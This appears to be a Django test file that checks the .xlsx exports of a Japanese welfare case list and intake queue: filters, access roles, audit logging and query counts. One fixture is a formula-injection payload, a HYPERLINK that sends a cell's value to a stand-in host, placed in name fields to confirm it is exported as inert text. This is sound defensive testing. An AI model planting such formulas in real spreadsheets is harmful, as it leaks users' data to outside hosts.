"""The case list and the intake queue download as .xlsx with the filter in force."""

import datetime

from django.urls import reverse

from yorisoi.audit.models import AuditEvent
from yorisoi.cases.tests.factories import CaseFactory, InquiryFactory, PersonFactory
from yorisoi.core.testing.tables import read_xlsx, xlsx

FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"詳細")'


def test_case_list_downloads_the_filtered_cases(as_member, caseworker, org):
    CaseFactory(
        organization=org,
        number="X-1",
        status="active",
        opened_on=datetime.date(2025, 4, 10),
        person=PersonFactory(organization=org, name=FORMULA, name_kana="やま", sex="female"),
    )
    CaseFactory(organization=org, number="X-2", status="closed")
    sheet = read_xlsx(xlsx(as_member(caseworker), reverse("cases:case_list"), status="active"))
    assert sheet.values("ケース番号") == ["X-1"]
    assert sheet.values("状態") == ["支援中"]
    assert sheet.values("性別") == ["女性"]
    (name,) = sheet.column("氏名")
    assert name.value == FORMULA
    assert name.data_type == "s"
    assert sheet.values("ケース開始日") == ["令和7年4月10日"]
    (iso,) = sheet.column("ケース開始日（西暦）")
    assert iso.value == datetime.datetime(2025, 4, 10)
    assert iso.number_format == "yyyy-mm-dd"


def test_a_nickname_has_its_own_column(as_member, caseworker, org):
    CaseFactory(organization=org, person=PersonFactory(organization=org, name="", nickname="Aさん"))
    sheet = read_xlsx(xlsx(as_member(caseworker), reverse("cases:case_list")))
    assert sheet.values("呼び名") == ["Aさん"]
    assert sheet.values("氏名") == [None]


def test_the_case_list_page_offers_the_download_with_its_filter(as_member, caseworker, org):
    CaseFactory(organization=org)
    page = as_member(caseworker).get(reverse("cases:case_list"), {"status": "active", "page": 1})
    assert 'href="?status=active&amp;format=xlsx"' in page.content.decode()


def test_a_caseworker_downloads_only_the_cases_they_may_see(
    as_member, caseworker, supervisor, org, other_org
):
    CaseFactory(organization=org, number="OWN-1")
    CaseFactory(organization=other_org, number="THEIRS-1")
    sheet = read_xlsx(xlsx(as_member(caseworker), reverse("cases:case_list")))
    assert sheet.values("ケース番号") == ["OWN-1"]


def test_roles_without_cases_cannot_download_them(as_member, clerk, sysadmin, org):
    CaseFactory(organization=org)
    for member in (clerk, sysadmin):
        assert xlsx(as_member(member), reverse("cases:case_list")).status_code == 403


def test_the_download_is_an_audit_event_naming_rows_and_filters(as_member, caseworker, org):
    case = CaseFactory(organization=org, status="active", person__name="山田 花子")
    xlsx(as_member(caseworker), reverse("cases:case_list"), status="active", q="山田")
    event = AuditEvent.objects.get(action="export")
    assert event.object_type == "cases.case"
    assert event.detail["rows"] == 1
    assert event.detail["ids"] == [case.pk]
    assert event.detail["filters"] == ["q", "status"]
    assert event.detail["values"] == {"status": "active"}
    assert "山田" not in str(event.detail)


def test_the_case_list_download_queries_do_not_grow(
    as_member, caseworker, supervisor, org, django_assert_max_num_queries
):
    client = as_member(caseworker)
    url = reverse("cases:case_list")

    def count():
        xlsx(client, url)  # warm the session
        with django_assert_max_num_queries(20) as captured:
            assert xlsx(client, url).status_code == 200
        return len(captured.captured_queries)

    for _ in range(3):
        CaseFactory(organization=org, primary_staff=caseworker, secondary_staff=supervisor)
    few = count()
    for _ in range(30):
        CaseFactory(organization=org, primary_staff=caseworker, secondary_staff=supervisor)
    assert count() == few


def test_the_intake_queue_downloads_what_it_shows(as_member, caseworker, org):
    InquiryFactory(
        organization=org,
        caller_name=FORMULA,
        received_at=datetime.datetime(2025, 4, 1, 1, 30, tzinfo=datetime.UTC),
    )
    InquiryFactory(organization=org, status="closed", caller_name="済んだ申込")
    client = as_member(caseworker)
    waiting = read_xlsx(xlsx(client, reverse("cases:inquiry_list")))
    (caller,) = waiting.column("相談者の氏名")
    assert caller.value == FORMULA
    assert caller.data_type == "s"
    assert waiting.values("受付日時") == ["令和7年4月1日 10:30"]
    assert waiting.values("受付日時（西暦）") == [datetime.datetime(2025, 4, 1, 10, 30)]
    closed = read_xlsx(xlsx(client, reverse("cases:inquiry_list"), status="closed"))
    assert closed.values("相談者の氏名") == ["済んだ申込"]


def test_roles_without_cases_cannot_download_inquiries(as_member, clerk, org):
    InquiryFactory(organization=org)
    assert xlsx(as_member(clerk), reverse("cases:inquiry_list")).status_code == 403


def test_the_intake_queue_queries_do_not_grow(
    as_member, caseworker, org, django_assert_max_num_queries
):
    client = as_member(caseworker)
    url = reverse("cases:inquiry_list")

    def count(**params):
        client.get(url, params)
        with django_assert_max_num_queries(20) as captured:
            assert client.get(url, params).status_code == 200
        return len(captured.captured_queries)

    for _ in range(2):
        InquiryFactory(organization=org, case=CaseFactory(organization=org))
    few, few_xlsx = count(status="waiting"), count(format="xlsx")
    for _ in range(25):
        InquiryFactory(organization=org, case=CaseFactory(organization=org))
    assert count(status="waiting") == few
    assert count(format="xlsx") == few_xlsx
